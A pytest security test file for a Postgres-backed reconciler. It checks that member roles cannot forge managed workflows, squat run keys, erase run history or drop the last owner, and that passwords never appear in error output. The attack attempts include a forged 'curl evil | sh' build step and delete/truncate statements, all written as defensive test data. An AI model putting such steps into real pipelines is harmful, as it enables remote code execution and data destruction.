"""Members who push their luck (issue 8), as the real `authenticated`, `anon` and `ops_reader`
roles: they cannot forge drift, squat a run key, erase history, leave a project without an
owner, or lock out applies; applies bound every wait; no password is ever printed; e-mails are
the same e-mail on both sides.

Every attack here succeeded on the schema of migrations 0001-0010; 0011 stops it.
"""

from __future__ import annotations

import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psycopg
import pytest

from reconciler import cli
from reconciler.commands import runs
from reconciler.core.emails import LOWER, UPPER, email_key
from reconciler.core.summary import row_hash
from reconciler.db import migrations, secrets, state
from reconciler.db.connection import lock_key
from tests.cli import Result, reconcile
from tests.gitrepo import Repo
from tests.helpers import make_project, make_user, scalar

Conn = psycopg.Connection[Any]
REFUSED = (psycopg.errors.InsufficientPrivilege, psycopg.errors.CheckViolation)
MEMBER_ROLES = ("owner", "admin", "developer", "viewer")
MANAGER = "ops-reconciler"


@dataclass(frozen=True)
class World:
    users: dict[str, uuid.UUID]
    project_a: uuid.UUID
    project_b: uuid.UUID
    workflow_a: uuid.UUID  # managed, with a run that has events and logs
    workflow_b: uuid.UUID  # project B's deploy/prod, managed
    plain_workflow: uuid.UUID  # in A, not managed
    run_a: uuid.UUID


def build(conn: Conn) -> World:
    users = {role: make_user(conn, f"{role}@a.example") for role in MEMBER_ROLES}
    users["owner-b"] = make_user(conn, "owner@b.example")
    ids = []
    for slug in ("project-a", "project-b"):
        ids.append(
            scalar(
                conn,
                "insert into ops.projects (workspace_key, slug, name, odoo_version, managed_by, "
                "spec_hash) values (%s, %s, %s, '18.0', %s, 'p') returning id",
                (slug.replace("-", "_"), slug, slug, MANAGER),
            )
        )
    project_a, project_b = ids
    for role in MEMBER_ROLES:
        conn.execute(
            "insert into ops.project_memberships (project_id, user_id, role, managed_by, "
            "spec_hash) values (%s, %s, %s, %s, 'm')",
            (project_a, users[role], role, MANAGER),
        )
    conn.execute(
        "insert into ops.project_memberships (project_id, user_id, role) values (%s, %s, 'owner')",
        (project_b, users["owner-b"]),
    )

    def workflow(project: uuid.UUID, type_: str, name: str, managed: bool) -> uuid.UUID:
        return scalar(  # type: ignore[no-any-return]
            conn,
            "insert into ops.workflows (project_id, workflow_type, name, config, managed_by, "
            'spec_hash) values (%s, %s, %s, \'{"steps": ["make"]}\', %s, %s) returning id',
            (project, type_, name, MANAGER if managed else None, "h" if managed else None),
        )

    workflow_a = workflow(project_a, "build", "build-main", True)
    run_a = scalar(
        conn,
        "insert into ops.runs (project_id, workflow_id) values (%s, %s) returning id",
        (project_a, workflow_a),
    )
    scalar(conn, "select ops.claim_next_run('w')")
    scalar(conn, "select ops.append_run_log(%s, 'info', 'hello')", (run_a,))
    scalar(conn, "select ops.add_run_artifact(%s, 'a', 'file:///a')", (run_a,))
    return World(
        users,
        project_a,
        project_b,
        workflow_a,
        workflow(project_b, "deploy", "prod", True),
        workflow(project_a, "test", "scratch", False),
        run_a,
    )


@pytest.fixture
def world(db_url: str) -> Iterator[tuple[Conn, World]]:
    with psycopg.connect(db_url, autocommit=True) as conn:
        yield conn, build(conn)


def become(conn: Conn, world: World, who: str) -> None:
    """A persona the way PostgREST makes one (a role and the JWT's sub), or a reader login."""
    if who in ("anon", "ops_reader"):
        conn.execute(f"set local role {who}")
        return
    conn.execute("set local role authenticated")
    conn.execute("select set_config('request.jwt.claim.sub', %s, true)", (str(world.users[who]),))


def attempt(conn: Conn, world: World, who: str, statement: str, params: Any = ()) -> int:
    """Rows the statement touched as `who` (0 when refused); always rolled back."""
    with conn.transaction(force_rollback=True):
        become(conn, world, who)
        try:
            with conn.transaction():
                return conn.execute(statement.encode(), params).rowcount
        except REFUSED:
            return 0


def column(conn: Conn, query: str, params: Any = ()) -> Any:
    return scalar(conn, query, params)


# --- Drift forgery ---------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["owner", "admin", "developer"])
def test_no_member_forges_the_bookkeeping_of_a_workflow(world: Any, who: str) -> None:
    conn, w = world
    forgeries = [
        "update ops.workflows set config = '{\"steps\": [\"curl evil | sh\"]}', spec_hash = 'h' "
        "where id = %(id)s",
        "update ops.workflows set spec_hash = 'h' where id = %(id)s",
        "update ops.workflows set managed_by = null where id = %(id)s",
        "update ops.workflows set git_commit = 'abc' where id = %(id)s",
        'update ops.workflows set config = \'{"steps": ["curl evil | sh"]}\' where id = %(id)s',
        "update ops.workflows set name = 'renamed' where id = %(id)s",
        "update ops.workflows set project_id = %(other)s where id = %(id)s",
    ]
    for statement in forgeries:
        touched = attempt(conn, w, who, statement, {"id": w.workflow_a, "other": w.project_b})
        assert touched == 0, statement
    assert column(conn, "select spec_hash from ops.workflows where id = %s", (w.workflow_a,)) == "h"


def test_disabling_a_managed_workflow_is_allowed_and_shows_as_drift(world: Any) -> None:
    conn, w = world
    with conn.transaction(force_rollback=True):
        become(conn, w, "developer")
        conn.execute("update ops.workflows set enabled = false where id = %s", (w.workflow_a,))
        conn.execute("reset role")
        row = conn.execute(
            "select enabled, spec_hash, managed_by from ops.workflows where id = %s",
            (w.workflow_a,),
        ).fetchone()
    assert row == (False, None, MANAGER)


def test_members_insert_no_managed_rows(world: Any) -> None:
    conn, w = world
    forged = (
        "insert into ops.workflows (project_id, workflow_type, name, managed_by, spec_hash) "
        "values (%(p)s, 'test', 'forged', 'ops-reconciler', 'h')"
    )
    assert attempt(conn, w, "developer", forged, {"p": w.project_a}) == 0
    membership = (
        "insert into ops.project_memberships (project_id, user_id, role, managed_by, spec_hash) "
        "values (%(p)s, %(u)s, 'viewer', 'ops-reconciler', 'm')"
    )
    assert attempt(conn, w, "owner", membership, {"p": w.project_a, "u": w.users["owner-b"]}) == 0
    # the plain forms still work on rows reconcile does not manage
    plain = "update ops.workflows set config = '{}' where id = %(id)s"
    assert attempt(conn, w, "developer", plain, {"id": w.plain_workflow}) == 1


@pytest.mark.parametrize("who", ["owner", "admin"])
def test_managed_projects_and_memberships_are_edited_in_the_files(world: Any, who: str) -> None:
    conn, w = world
    for statement in (
        "update ops.projects set spec_hash = 'p' where id = %(p)s",
        "update ops.projects set config = '{\"evil\": 1}' where id = %(p)s",
        "update ops.project_memberships set spec_hash = 'm' where project_id = %(p)s",
        "update ops.project_memberships set role = 'admin' "
        "where project_id = %(p)s and role = 'viewer'",
    ):
        assert attempt(conn, w, who, statement, {"p": w.project_a}) == 0, statement


def test_readers_and_anon_write_nothing(world: Any) -> None:
    conn, w = world
    for who in ("ops_reader", "anon"):
        for statement in (
            "update ops.workflows set enabled = false where id = %(id)s",
            "update ops.workflows set spec_hash = 'h' where id = %(id)s",
            "delete from ops.workflows where id = %(id)s",
        ):
            assert attempt(conn, w, who, statement, {"id": w.workflow_a}) == 0


# --- Idempotency squat -----------------------------------------------------------------------


def squat(w: World) -> tuple[str, dict[str, Any]]:
    return (
        "insert into ops.runs (project_id, workflow_id, idempotency_key) "
        "values (%(p)s, %(wf)s, %(key)s)",
        {
            "p": w.project_a,
            "wf": w.workflow_a,
            "key": "push:" + "a" * 40 + ":project-b/deploy/prod",
        },
    )


@pytest.mark.parametrize("who", ["owner", "admin", "developer"])
def test_no_member_squats_another_projects_run_key(world: Any, who: str) -> None:
    conn, w = world
    statement, params = squat(w)
    assert attempt(conn, w, who, statement, params) == 0
    # nor the apply's key of their own workflow, with the metadata they choose
    own = {**params, "key": "push:" + "a" * 40 + ":project-a/build/build-main"}
    assert attempt(conn, w, who, statement, own) == 0
    # their own keys still work
    assert attempt(conn, w, who, statement, {**params, "key": "manual:1"}) == 1


def test_the_migration_moves_squatted_keys_out_of_the_applys_way(empty_db_url: str) -> None:
    """A run squatted on the landed schema (even a finished one) no longer holds the key."""
    with psycopg.connect(empty_db_url, autocommit=True) as conn:
        conn.execute("create schema ops; create table ops.schema_migrations (version int)")
        landed = [m for m in migrations.shipped() if m.version <= 10]
        for migration in landed:
            conn.execute(migration.sql.encode())
        for slug, type_, name in (("project-a", "build", "main"), ("project-b", "deploy", "prod")):
            project = make_project(conn, slug)
            conn.execute(
                "insert into ops.workflows (project_id, workflow_type, name) values (%s, %s, %s)",
                (project, type_, name),
            )
        for key in ("push:abc:project-b/deploy/prod", "push:abc:project-a/build/main"):
            conn.execute(
                "insert into ops.runs (project_id, workflow_id, idempotency_key) "
                "select project_id, id, %s from ops.workflows where name = 'main'",
                (key,),
            )
        conn.execute("select ops.claim_run('w', 30, true)")
        conn.execute("update ops.runs set status = 'succeeded' where status = 'running'")
        (hardening,) = [m for m in migrations.shipped() if m.version == 11]
        conn.execute(hardening.sql.encode())
        keys = [r[0] for r in conn.execute("select idempotency_key from ops.runs order by 1")]
    assert keys == ["push:abc:project-a/build/main", "squatted:push:abc:project-b/deploy/prod"]


def test_a_key_is_unique_per_workflow_and_names_its_own(world: Any) -> None:
    conn, w = world
    statement, params = squat(w)
    with pytest.raises(psycopg.errors.CheckViolation):  # not even the reconciler
        conn.execute(statement.encode(), params)
    for workflow, project in ((w.workflow_a, w.project_a), (w.workflow_b, w.project_b)):
        conn.execute(statement.encode(), {"p": project, "wf": workflow, "key": "nightly"})
    assert column(conn, "select count(*) from ops.runs where idempotency_key = 'nightly'") == 2


# --- Erased history --------------------------------------------------------------------------

HISTORY = ["runs", "run_events", "run_logs", "run_artifacts"]


@pytest.mark.parametrize("who", [*MEMBER_ROLES, "anon", "ops_reader"])
def test_no_member_erases_history(world: Any, who: str) -> None:
    conn, w = world
    before = {t: column(conn, f"select count(*) from ops.{t}") for t in HISTORY}
    params = {"wf": w.workflow_a, "p": w.project_a, "r": w.run_a}
    for statement in (
        "delete from ops.workflows where id = %(wf)s",
        "delete from ops.workflows",
        "delete from ops.projects where id = %(p)s",
        "delete from ops.runs where id = %(r)s",
        "delete from ops.run_events where run_id = %(r)s",
        "delete from ops.run_logs where run_id = %(r)s",
        "delete from ops.run_artifacts where run_id = %(r)s",
        "truncate ops.runs cascade",
    ):
        with conn.transaction():
            become(conn, w, who)
            try:
                with conn.transaction():
                    conn.execute(statement.encode(), params)
            except REFUSED:
                pass
            conn.execute("reset role")
    assert {t: column(conn, f"select count(*) from ops.{t}") for t in HISTORY} == before
    assert column(conn, "select count(*) from ops.workflows where id = %s", (w.workflow_a,)) == 1


def test_a_workflow_with_runs_is_never_deleted_by_anyone(world: Any) -> None:
    conn, w = world
    with pytest.raises(psycopg.errors.IntegrityError, match=r"(?i)restrict|still referenced"):
        conn.execute("delete from ops.workflows where id = %s", (w.workflow_a,))
    with pytest.raises(psycopg.errors.IntegrityError, match=r"(?i)restrict|still referenced"):
        conn.execute("delete from ops.projects where id = %s", (w.project_a,))


# --- Last owner ------------------------------------------------------------------------------


def owners(conn: Conn, project: uuid.UUID) -> int:
    return int(
        column(
            conn,
            "select count(*) from ops.project_memberships where project_id = %s and role = 'owner'",
            (project,),
        )
    )


REMOVE = (
    "select from ops.project_memberships m where m.project_id = %(p)s and m.user_id = %(u)s "
    "and ops.remove_member(m.id)"
)


def test_the_last_owner_cannot_leave_or_step_down(world: Any) -> None:
    conn, w = world
    conn.execute("update ops.project_memberships set managed_by = null")  # members may edit
    me = {"u": w.users["owner"], "p": w.project_a}
    demote = (
        "update ops.project_memberships set role = 'admin' where user_id = %(u)s "
        "and project_id = %(p)s"
    )
    for statement in (REMOVE, demote):
        assert attempt(conn, w, "owner", statement, me) == 0
    # with a second owner, one may go, but not both in one statement
    conn.execute(
        "insert into ops.project_memberships (project_id, user_id, role) values (%s, %s, 'owner')",
        (w.project_a, w.users["owner-b"]),
    )
    both = "update ops.project_memberships set role = 'admin' where project_id = %(p)s"
    assert attempt(conn, w, "owner", both, me) == 0
    assert attempt(conn, w, "owner", demote, me) == 1
    assert attempt(conn, w, "owner", REMOVE, me) == 1


def test_members_are_removed_by_the_function_with_the_policy_rules(world: Any) -> None:
    conn, w = world
    delete = "delete from ops.project_memberships where project_id = %(p)s and user_id = %(u)s"
    viewer = {"p": w.project_a, "u": w.users["viewer"]}
    for who in ("owner", "admin"):
        assert attempt(conn, w, who, delete, viewer) == 0  # no DELETE privilege (LOCK TABLE)
        assert attempt(conn, w, who, REMOVE, viewer) == 1
    assert attempt(conn, w, "developer", REMOVE, viewer) == 0
    assert attempt(conn, w, "admin", REMOVE, {"p": w.project_a, "u": w.users["owner"]}) == 0
    assert attempt(conn, w, "owner-b", REMOVE, viewer) == 0  # not a member of project A


@pytest.mark.parametrize("isolation", ["read committed", "repeatable read"])
def test_two_owners_demoting_each_other_at_once_leave_one(
    db_url: str, world: Any, isolation: str
) -> None:
    conn, w = world
    second = w.users["owner-b"]
    conn.execute(
        "insert into ops.project_memberships (project_id, user_id, role) values (%s, %s, 'owner')",
        (w.project_a, second),
    )
    demote = (
        "update ops.project_memberships set role = 'admin' where project_id = %s and user_id = %s"
    )
    errors: list[BaseException] = []

    def demote_other(me: uuid.UUID, other: uuid.UUID, hold: threading.Event | None) -> None:
        with psycopg.connect(db_url) as c:
            try:
                c.execute(f"set transaction isolation level {isolation}")
                c.execute("set local lock_timeout = '20s'")
                c.execute("set local role authenticated")
                c.execute("select set_config('request.jwt.claim.sub', %s, true)", (str(me),))
                c.execute(demote, (w.project_a, other))
                if hold:
                    hold.wait(10)
                c.commit()
            except psycopg.Error as exc:
                errors.append(exc)

    release = threading.Event()
    first = threading.Thread(target=demote_other, args=(w.users["owner"], second, release))
    first.start()
    time.sleep(0.5)  # the first demotion is made and not committed yet
    other = threading.Thread(target=demote_other, args=(second, w.users["owner"], None))
    other.start()
    time.sleep(0.5)
    release.set()
    first.join(30)
    other.join(30)
    assert owners(conn, w.project_a) == 1
    assert len(errors) == 1


# --- Reader lock and lock timeout (the real command) -----------------------------------------

PROJECT = """\
apiVersion: ops/v1
kind: Project
slug: project-c
workspace_key: project_c
name: C
odoo_version: "18.0"
members:
  - {user: owner@c.example, role: owner}
  - {user: dev@c.example, role: developer}
workflows:
  - type: build
    name: build-main
    git_ref: main
    on: [push]
    config: {steps: ["make STEP"]}
"""


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    repository = Repo(tmp_path / "state")
    repository.write("projects/c.yaml", PROJECT.replace("STEP", "one"))
    repository.commit("project c")
    return repository


def apply(repo: Repo, db_url: str, *args: str, timeout: float = 60) -> Result:
    return reconcile(
        "apply",
        "--yes",
        *args,
        "-C",
        str(repo.root),
        "--database-url",
        db_url,
        env={"RECONCILE_CACHE_DIR": str(repo.root.parent / "cache")},
        timeout=timeout,
    )


def test_a_reader_cannot_take_the_apply_lock(repo: Repo, db_url: str) -> None:
    with psycopg.connect(db_url) as reader:
        reader.execute("set role ops_reader")
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            reader.execute("select from ops.reconcile_lock for update")
        reader.rollback()
        reader.execute("set role ops_reader")
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            reader.execute("lock table ops.workflows in access exclusive mode")
        reader.rollback()
        reader.execute("set role ops_reader")
        # what it still may take, an advisory lock, no longer stands in an apply's way
        reader.execute("select pg_advisory_lock(%s)", (lock_key("ops-reconciler:apply"),))
        result = apply(repo, db_url, "--lock-timeout", "2")
    assert result.code == 0, result.stderr


@pytest.mark.parametrize("who", ["authenticated", "anon"])
def test_members_cannot_lock_whole_tables(db_url: str, who: str) -> None:
    with psycopg.connect(db_url) as conn:
        for table in ("workflows", "project_memberships", "runs", "projects", "reconcile_lock"):
            conn.execute(f"set role {who}")
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute(f"lock table ops.{table} in share mode")
            conn.rollback()


def test_an_idle_member_transaction_holding_a_row_bounds_the_apply(repo: Repo, db_url: str) -> None:
    assert apply(repo, db_url).code == 0
    repo.write("projects/c.yaml", PROJECT.replace("STEP", "two"))
    repo.commit("step two")
    with psycopg.connect(db_url) as holder:
        developer = scalar(holder, "select id from auth.users where email = 'dev@c.example'")
        holder.execute("set role authenticated")
        holder.execute("select set_config('request.jwt.claim.sub', %s, false)", (str(developer),))
        locked = holder.execute("select id from ops.workflows for update").fetchall()
        assert len(locked) == 1  # the developer's open transaction holds the workflow's row
        started = time.monotonic()
        result = apply(repo, db_url, "--lock-timeout", "2", timeout=30)
        waited = time.monotonic() - started
    assert result.code == 1
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("error: reconcile: ")
    assert "longer than --lock-timeout; nothing was written" in result.stderr
    assert waited < 20
    with psycopg.connect(db_url) as conn:
        assert column(conn, "select config::text from ops.workflows") == '{"steps": ["make one"]}'


def test_a_squatted_key_does_not_stop_the_apply_enqueueing(repo: Repo, db_url: str) -> None:
    sha = repo.git("rev-parse", "HEAD")
    assert apply(repo, db_url).code == 0  # the project exists; its run of this commit too
    repo.write("projects/c.yaml", PROJECT.replace("STEP", "two"))
    head = repo.commit("step two")
    with psycopg.connect(db_url) as conn:
        developer = scalar(conn, "select id from auth.users where email = 'dev@c.example'")
        project, workflow = conn.execute("select project_id, id from ops.workflows").fetchone()  # type: ignore[misc]
        conn.execute("set role authenticated")
        conn.execute("select set_config('request.jwt.claim.sub', %s, false)", (str(developer),))
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute(
                "insert into ops.runs (project_id, workflow_id, idempotency_key) "
                "values (%s, %s, %s)",
                (project, workflow, f"push:{head}:project-c/build/build-main"),
            )
    result = apply(repo, db_url)
    assert result.code == 0, result.stderr
    with psycopg.connect(db_url) as conn:
        keys = [r[0] for r in conn.execute("select idempotency_key from ops.runs order by 1")]
    assert keys == sorted(
        [f"push:{sha}:project-c/build/build-main", f"push:{head}:project-c/build/build-main"]
    )


# --- Secrets ---------------------------------------------------------------------------------

PASSWORD = "Pw9-sEcReT"
MALFORMED = [
    f"postgresql://u:{PASSWORD}%zz@127.0.0.1/x",
    f"postgresql://u:{PASSWORD} x@127.0.0.1/x",
    f"postgresql://u:{PASSWORD}%00@127.0.0.1/x",
    f"postgresql://u:{PASSWORD}@[127.0.0.1/x",
    f"postgresql://u:{PASSWORD}@ret@127.0.0.1:5432/x",
    f"postgresql://u:ab@{PASSWORD}@127.0.0.1:5432/x",
    f"postgresql://u:{PASSWORD}@127.0.0.1:99999/x",
    f"postgresql://u:{PASSWORD}@127.0.0.1:1/x?sslmode=bogus",
    f"postgresql://127.0.0.1:1/x?password={PASSWORD}&sslmode=nope",
    f"postgresql://u:{PASSWORD}@127.0.0.1:1/x",
    f"postgres://u:{PASSWORD.replace('-', '%2D')}@127.0.0.1:1/x",
    f"host=127.0.0.1 port=1 password={PASSWORD} sslmode=bogus",
    f"host=127.0.0.1 password='{PASSWORD} x",
    f"host=127.0.0.1 password = '{PASSWORD}' port=abc",
    f"host=127.0.0.1 password={PASSWORD} bogus",
    f"user=u password={PASSWORD} nosuchoption=1",
    # found by trying: libpq quotes what it cannot parse, and pairing its quotes showed these
    f"u:{PASSWORD}@127.0.0.1/x",  # no scheme: parsed as key=value settings
    f"user=u password=xy {PASSWORD} host=h",  # an unquoted space in the password
    PASSWORD,  # the password itself pasted as the URL
    f'host=h password="{PASSWORD}" x',
]


@pytest.mark.parametrize("url", MALFORMED)
@pytest.mark.parametrize("how", ["option", "environment"])
def test_no_message_ever_shows_the_password(url: str, how: str) -> None:
    if how == "option":
        result = reconcile("--debug", "runs", "list", "--database-url", url, timeout=30)
    else:
        result = reconcile("runs", "list", env={"DATABASE_URL": url}, timeout=30)
    assert result.code == 1
    shown = result.stdout + result.stderr
    assert PASSWORD not in shown and "sEcReT" not in shown
    said = [line for line in result.stderr.splitlines() if not line.startswith("debug: ")]
    assert len(said) == 1 and said[0].startswith("error: ")  # --debug adds its own lines


def test_redact_finds_the_password_in_any_shape() -> None:
    secrets.remember(f"postgresql://u:{PASSWORD}%41b@h/x")
    secrets.remember(f"password='it\\'s {PASSWORD}' host=h")
    text = f'failed: "{PASSWORD}Ab" and "{PASSWORD}%41b" and it\'s {PASSWORD}'
    assert PASSWORD not in secrets.redact(text)


# --- E-mails ---------------------------------------------------------------------------------

TRICKY = ["ΣΟΦΙΑΣ@Example.COM", "σοφιας@example.com", "İnci@Example.com", "ẞTRASSE@x.de", "Ⅻ@x"]
# Go's strings.ToLower, as GoTrue stores them: capital sigma is always the small one (never
# the final form, which stays as written), dotted capital I is i
GOTRUE = {"ΣΟΦΙΑΣ@x": "σοφιασ@x", "σοφιας@x": "σοφιας@x", "İnci@x": "inci@x", "ẞ@x": "ß@x"}


def test_python_and_sql_share_one_email_key(conn: Conn) -> None:
    assert email_key(UPPER) == LOWER
    assert column(conn, "select ops.email_key(%s)", (UPPER,)) == LOWER
    for email in TRICKY:
        assert column(conn, "select ops.email_key(%s)", (email,)) == email_key(email)
    for email, stored in GOTRUE.items():
        assert email_key(email) == stored


def test_the_membership_hash_is_the_same_in_python_and_sql(conn: Conn) -> None:
    for email in TRICKY:
        sql_hash = column(
            conn,
            "select ('x' || substr(md5('membership|p|' || ops.email_key(%s) || '|d'), 1, 15))"
            "::bit(60)::bigint",
            (email,),
        )
        assert sql_hash == row_hash("membership", ("p", email_key(email)), "d")


def test_the_plans_reads_key_every_email_as_ops_email_key(conn: Conn) -> None:
    """The plan's bulk reads (read_users, group_summaries) key every e-mail, ASCII (0022's fast
    path) or not, as emails.py does."""
    emails = ["Plain.ASCII@Example.COM", "x_y+Z@a.b", "\u212aelvin@x.org", *TRICKY]
    ids = {email: str(make_user(conn, email)) for email in emails}
    users = state.read_users(conn)
    for email, user_id in ids.items():
        assert users[email_key(email)] == user_id
    project = scalar(
        conn,
        "insert into ops.projects (workspace_key, slug, name, odoo_version, managed_by, "
        "spec_hash) values ('p', 'p', 'p', '18.0', %s, 'p') returning id",
        (MANAGER,),
    )
    for user_id in ids.values():
        conn.execute(
            "insert into ops.project_memberships (project_id, user_id, role, managed_by, "
            "spec_hash) values (%s, %s, 'viewer', %s, 'd')",
            (project, user_id, MANAGER),
        )
    expected = row_hash("project", ("p",), "p") + sum(
        row_hash("membership", ("p", email_key(email)), "d") for email in emails
    )
    assert state.group_states(conn)["p"].total == expected


def test_an_existing_user_is_found_whatever_the_case(tmp_path: Path, db_url: str) -> None:
    with psycopg.connect(db_url, autocommit=True) as conn:
        sofia = make_user(conn, "σοφιασ@example.com")  # as GoTrue stores ΣΟΦΙΑΣ@
        inci = make_user(conn, "İNCİ@example.com")  # as written by hand
    repo = Repo(tmp_path / "state")
    repo.write(
        "projects/c.yaml",
        PROJECT.replace("owner@c.example", "ΣΟΦΙΑΣ@example.com")
        .replace("dev@c.example", "İnci@example.com")
        .replace("STEP", "one"),
    )
    repo.commit("greek and turkish members")
    assert apply(repo, db_url).code == 0
    with psycopg.connect(db_url) as conn:
        assert column(conn, "select count(*) from auth.users") == 2
        members = {r[0] for r in conn.execute("select user_id from ops.project_memberships")}
    assert members == {sofia, inci}
    again = apply(repo, db_url)
    assert again.code == 0 and "No changes." in again.stdout
    with (
        psycopg.connect(db_url, autocommit=True) as conn,
        pytest.raises(psycopg.errors.UniqueViolation),
    ):
        make_user(conn, "σοφιασ@EXAMPLE.com")  # one user per e-mail key


def test_a_debug_traceback_never_shows_the_password(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The last-resort path: an unexpected error whose text and traceback carry the URL."""
    url = f"postgresql://u:{PASSWORD}@127.0.0.1:1/x"

    def explode(database_url: str, *_: Any) -> int:
        raise RuntimeError(f"could not use {database_url}")

    monkeypatch.setattr(runs, "list_runs", explode)
    monkeypatch.delenv("DATABASE_URL", raising=False)
    assert cli.main(["--debug", "runs", "list", "--database-url", url]) == 1
    captured = capsys.readouterr()
    assert "Traceback" in captured.err and "RuntimeError" in captured.err
    assert PASSWORD not in captured.out + captured.err
